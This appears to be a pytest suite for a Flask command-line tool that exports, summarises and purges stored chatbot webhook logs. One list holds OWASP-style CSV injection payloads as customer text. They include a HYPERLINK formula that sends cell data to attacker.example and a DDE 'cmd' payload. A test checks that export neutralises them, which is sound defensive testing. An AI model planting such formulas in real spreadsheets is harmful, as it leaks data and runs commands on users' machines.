"""`flask --app handlers logs ...`: init-db, export (both formats round-trip), stats on a known
data set, purge; on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import os
import pathlib
import pty
import subprocess
import sys
import tracemalloc
from datetime import datetime, timedelta
from typing import Any

import pytest

from handlers.store import COLUMNS, SCHEMA_VERSION, utcnow
from logs_support import REPO, cdr_body, message_body, pg_store_url, row_of, store_url  # noqa: F401

DAY = datetime(2024, 5, 1, 9, 30)



@pytest.fixture
def log_app(make_app: Any, store_url: str) -> Any:
    return make_app(DATABASE_URL=store_url)


def store_of(app: Any) -> Any:
    return app.extensions["webhooks"].store


def invoke(app: Any, *args: str) -> Any:
    result = app.test_cli_runner().invoke(args=["logs", *args])
    return result


def known_data(app: Any) -> list[dict[str, Any]]:
    """Three days, three sessions, two assistants, two languages, intents, a transfer, a call."""
    bodies = [
        (message_body(session="s1", text="hola", customer_language="es",
                      intents=[{"intent": "greeting", "confidence": 0.9}]), DAY),
        (message_body(session="s1", text="mi pedido", customer_language="es",
                      intents=[{"intent": "order_status", "confidence": 0.8}]),
         DAY + timedelta(minutes=1)),
        (message_body(session="s1", text="un humano", customer_language="es",
                      intents=[{"intent": "human_agent", "confidence": 0.95}],
                      generic=[{"response_type": "connect_to_agent",
                                "agent_available": {"message": "ok"}}]),
         DAY + timedelta(minutes=2)),
        (message_body(session="s2", text="hello", assistant="assistant-2",
                      intents=[{"intent": "greeting", "confidence": 0.7}]),
         DAY + timedelta(days=1)),
        (message_body(session="s3", text="where is my order", reply=["Let me check", "Found it"],
                      intents=[{"intent": "order_status", "confidence": 0.6}]),
         DAY + timedelta(days=2)),
        (message_body(session="s3", text="thanks", intents=[]), DAY + timedelta(days=2, hours=1)),
        (cdr_body(), DAY + timedelta(days=2, hours=2)),
    ]
    store_of(app).add_many([row_of(body, when) for body, when in bodies])
    return [body for body, _ in bodies]


def test_init_db_creates_the_schema_and_says_where(log_app: Any) -> None:
    result = invoke(log_app, "init-db")
    assert result.exit_code == 0, result.output
    assert f"schema version {SCHEMA_VERSION}" in result.output
    assert store_of(log_app).schema_version() == SCHEMA_VERSION


def test_export_jsonl_round_trips_the_raw_events(log_app: Any) -> None:
    bodies = known_data(log_app)
    result = invoke(log_app, "export")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert [json.loads(line) for line in lines] == bodies


def test_export_csv_round_trips_the_extracted_columns(log_app: Any, tmp_path: Any) -> None:
    bodies = known_data(log_app)
    target = tmp_path / "out.csv"
    result = invoke(log_app, "export", "--format", "csv", "--output", str(target))
    assert result.exit_code == 0, result.output
    assert result.output == ""               # the file has the data; no progress off a terminal
    with target.open(newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    assert list(table[0]) == list(COLUMNS)
    assert len(table) == len(bodies)
    first = table[0]
    expected = row_of(bodies[0], DAY)
    assert first["received_at"] == "2024-05-01T09:30:00Z"
    assert first["customer_text"] == "hola" and first["language"] == "es"
    assert first["intent"] == "greeting" and float(first["intent_confidence"]) == 0.9
    assert first["idempotency_key"] == expected.idempotency_key
    assert first["request_timestamp"] == "2021-10-12T20:54:00.722000Z"
    assert table[2]["agent_transfer"] == "true" and first["agent_transfer"] == "false"
    assert table[4]["reply_text"] == "Let me check\nFound it"       # quoted multi-line cell
    assert table[6]["event"] == "cdr_logged" and table[6]["customer_text"] == ""


# What a spreadsheet runs as a formula (OWASP's CSV injection list), typed by a customer.
FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_export_csv_writes_formulas_as_text_and_one_record_per_event(log_app: Any,
                                                                       tmp_path: Any) -> None:
    bodies = [message_body(session=f"formula-{index}", text=text)
              for index, text in enumerate(FORMULAS)]
    bodies += [message_body(session="lines", text="one\rtwo", reply=["three", "four"]),
               message_body(session="crlf", text="five\r\nsix; =7+8"),
               message_body(session="number", text="fine",
                            intents=[{"intent": "x", "confidence": -0.5}])]
    store_of(log_app).add_many([row_of(body, DAY + timedelta(minutes=index))
                                for index, body in enumerate(bodies)])
    target = tmp_path / "out.csv"
    result = invoke(log_app, "export", "--format", "csv", "--output", str(target))
    assert result.exit_code == 0, result.output
    with target.open(newline="", encoding="utf-8") as handle:
        records = list(csv.reader(handle))
    assert len(records) == 1 + len(bodies)                  # each event one record
    table = [dict(zip(records[0], record)) for record in records[1:]]
    assert [row["customer_text"] for row in table] == \
        ["'" + text for text in FORMULAS] + ["one\rtwo", "five\r\nsix; =7+8", "fine"]
    assert table[6]["reply_text"] == "three\nfour"
    assert table[8]["intent_confidence"] == "-0.5"          # a number stays a number
    assert table[0]["session_id"] == "formula-0"
    # every text cell is quoted, so a CR, an LF or a `;` stays inside its cell
    with target.open(newline="", encoding="utf-8") as handle:
        assert '"one\rtwo"' in handle.read()
    # the JSON lines export is the events as received
    jsonl = invoke(log_app, "export")
    assert [json.loads(line) for line in jsonl.output.splitlines()] == bodies


def test_export_filters_by_period_session_and_assistant(log_app: Any) -> None:
    known_data(log_app)

    def sessions(*args: str) -> list[str]:
        result = invoke(log_app, "export", *args)
        assert result.exit_code == 0, result.output
        return [json.loads(line)["payload"].get("session_id", "call")
                for line in result.output.splitlines()]

    assert sessions("--since", "2024-05-02") == ["s2", "s3", "s3", "call"]
    assert sessions("--until", "2024-05-02") == ["s1", "s1", "s1", "s2"]   # the whole day
    assert sessions("--since", "2024-05-02", "--until", "2024-05-02") == ["s2"]
    assert sessions("--until", "2024-05-01T09:31:00Z") == ["s1"]          # exclusive
    assert sessions("--since", "2024-05-01T11:31:00+02:00", "--until", "2024-05-02") \
        == ["s1", "s1", "s2"]                                             # 09:31 UTC onwards
    assert sessions("--session", "s3") == ["s3", "s3"]
    assert sessions("--assistant", "assistant-2") == ["s2"]
    assert sessions("--since", "2030-01-01") == []


@pytest.mark.parametrize("args, message", [
    (("export", "--since", "yesterday"), "is not a date"),
    (("export", "--since", "2024-05-03", "--until", "2024-05-01"), "--until must be after"),
    (("export", "--format", "xml"), "xml"),
    (("purge",), "--older-than"),
    (("purge", "--older-than", "-1"), "-1"),
])
def test_bad_arguments_are_usage_errors(log_app: Any, args: tuple[str, ...],
                                         message: str) -> None:
    result = invoke(log_app, *args)
    assert result.exit_code == 2
    assert message in result.output


def test_stats_on_a_known_data_set(log_app: Any) -> None:
    known_data(log_app)
    result = invoke(log_app, "stats", "--format", "json")
    assert result.exit_code == 0, result.output
    figures = json.loads(result.output)
    assert figures["events_per_day"] == {
        "2024-05-01": {"message_logged": 3},
        "2024-05-02": {"message_logged": 1},
        "2024-05-03": {"message_logged": 2, "cdr_logged": 1},
    }
    assert figures["messages"] == 6 and figures["sessions"] == 3
    assert figures["messages_per_session"] == {"mean": 2.0, "min": 1, "max": 3}
    assert figures["languages"] == {"en": 3, "es": 3}
    assert figures["top_intents"] == [{"intent": "greeting", "count": 2},
                                      {"intent": "order_status", "count": 2},
                                      {"intent": "human_agent", "count": 1}]
    assert figures["agent_transfer_offered"] == {"replies": 1, "share": round(1 / 6, 4)}
    assert figures["calls"] == {"count": 1, "transferred": 0,
                                "end_reasons": {"assistant_hangup": 1},
                                "languages": {"unknown": 1}}
    assert figures["translation_failures"] == 0

    later = json.loads(invoke(log_app, "stats", "--since", "2024-05-02", "--format", "json").output)
    assert later["messages"] == 3 and later["sessions"] == 2
    assert later["languages"] == {"en": 3}
    assert later["agent_transfer_offered"]["replies"] == 0


def test_stats_as_text_and_on_an_empty_store(log_app: Any) -> None:
    empty = invoke(log_app, "stats")
    assert empty.exit_code == 0 and "(none)" in empty.output
    known_data(log_app)
    text = invoke(log_app, "stats", "--top", "1").output
    assert "2024-05-03  cdr_logged 1  message_logged 2" in text
    assert "sessions: 3" in text and "es 3" in text
    assert "greeting" in text and "order_status" not in text
    assert "replies offering an agent transfer: 1 (16.7%)" in text


def test_purge_deletes_older_events_and_dry_run_only_counts(log_app: Any) -> None:
    store = store_of(log_app)
    now = utcnow()
    store.add_many([row_of(message_body(), now - timedelta(days=days)) for days in (90, 45, 10, 0)])
    dry = invoke(log_app, "purge", "--older-than", "30", "--dry-run")
    assert dry.exit_code == 0 and dry.output.startswith("2 events")
    assert store.reports.count() == 4
    result = invoke(log_app, "purge", "--older-than", "30")
    assert result.exit_code == 0 and result.output.startswith("deleted 2 events")
    assert store.reports.count() == 2


def test_export_memory_stays_flat_whatever_the_table_size(log_app: Any, tmp_path: Any) -> None:
    store = store_of(log_app)
    filler = "x" * 2000
    for start in range(0, 6000, 1000):
        store.add_many([row_of(message_body(text=filler), DAY) for _ in range(1000)])
    target = tmp_path / "all.jsonl"
    tracemalloc.start()
    try:
        result = invoke(log_app, "export", "--output", str(target))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.exit_code == 0
    assert sum(1 for _ in target.open()) == 6000
    size = target.stat().st_size
    assert size > 12_000_000
    assert peak < size / 10     # a batch of rows in memory, never the table


def test_the_command_runs_as_users_run_it_with_a_progress_bar_on_a_terminal(
        store_url: str, tmp_path: Any) -> None:
    from handlers import create_app

    app = create_app({"DATABASE_URL": store_url})
    known_data(app)
    target = tmp_path / "out.jsonl"
    env = {key: value for key, value in os.environ.items()
           if not key.startswith(("WEBHOOK_", "LOG_", "DATABASE_URL"))}
    env.update(DATABASE_URL=store_url, APP_LOG_LEVEL="ERROR")
    flask = [str(pathlib.Path(sys.executable).with_name("flask")), "--app", "handlers", "logs"]
    # stderr on a pseudo-terminal, as in an interactive shell
    leader, follower = pty.openpty()
    completed = subprocess.run([*flask, "export", "--output", str(target)], cwd=REPO, env=env,
                               stdout=subprocess.PIPE, stderr=follower, timeout=60)
    os.close(follower)
    terminal = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:
            break
        if not chunk:
            break
        terminal += chunk
    os.close(leader)
    assert completed.returncode == 0
    assert b"7/7" in terminal and b"events" in terminal
    assert len(target.read_text().splitlines()) == 7
    # to stdout, no bar even on a terminal: the data is the output
    piped = subprocess.run([*flask, "export", "--format", "csv"], cwd=REPO, env=env,
                           capture_output=True, timeout=60)
    assert piped.returncode == 0 and piped.stderr == b""
    assert len(list(csv.reader(io.StringIO(piped.stdout.decode())))) == 8


# A `flask --app handlers ...` command in a fresh interpreter: the modules it imported and its
# peak memory (VmHWM), printed when it exits.
REPORT_AT_EXIT = """
import atexit, json, sys
def report():
    status = open("/proc/self/status").read().split("VmHWM:")[1].split()[0]
    print(json.dumps({"lingua": "lingua" in sys.modules, "langdetect": "langdetect" in sys.modules,
                      "peak_mb": int(status) // 1024}), file=sys.stderr)
atexit.register(report)
sys.argv = ["flask", "--app", "handlers", *sys.argv[1:]]
from flask.cli import main
main()
"""


def command_footprint(store_url: str, *args: str) -> dict[str, Any]:
    env = {key: value for key, value in os.environ.items()
           if not key.startswith(("WEBHOOK_", "LOG_", "DATABASE_URL", "LANGUAGE"))}
    env.update(DATABASE_URL=store_url, APP_LOG_LEVEL="ERROR")
    done = subprocess.run([sys.executable, "-c", REPORT_AT_EXIT, *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stderr.strip().splitlines()[-1])


@pytest.mark.parametrize("args", [("logs", "stats"), ("logs", "export", "--format", "csv"),
                                  ("logs", "purge", "--older-than", "30", "--dry-run"),
                                  ("sign-jwt", "--secret", "s3cret")])
def test_a_command_never_loads_the_language_detector(tmp_path: Any, args: tuple[str, ...]
                                                     ) -> None:
    footprint = command_footprint(f"sqlite:///{tmp_path}/events.sqlite3", *args)
    assert not footprint["lingua"] and not footprint["langdetect"]
    # The server's app with the default detector holds about 400 MB (bench/memory.py).
    assert footprint["peak_mb"] < 150, footprint


def test_a_served_app_still_loads_its_detector_at_once(tmp_path: Any) -> None:
    # `flask routes` builds the app inside its own command, as `flask run` does: eagerly.
    footprint = command_footprint(f"sqlite:///{tmp_path}/events.sqlite3", "routes")
    assert footprint["lingua"] and footprint["peak_mb"] > 200


def test_an_app_built_for_a_command_detects_on_first_use(tmp_path: Any) -> None:
    """Should a command detect after all, the detector is built then."""
    import click
    from flask.cli import FlaskGroup

    from handlers import create_app
    from handlers.language import LazyDetector

    store_url = f"sqlite:///{tmp_path}/events.sqlite3"
    with click.Context(FlaskGroup()):
        app = create_app({"DATABASE_URL": store_url, "LANGUAGE_DETECTOR": "langdetect"})
    detector = app.extensions["webhooks"].detector
    assert isinstance(detector, LazyDetector)
    assert detector.detect("¿Dónde está mi pedido? Lo pedí hace dos semanas").language == "es"
    assert not isinstance(create_app({"DATABASE_URL": store_url}).extensions["webhooks"].detector,
                          LazyDetector)
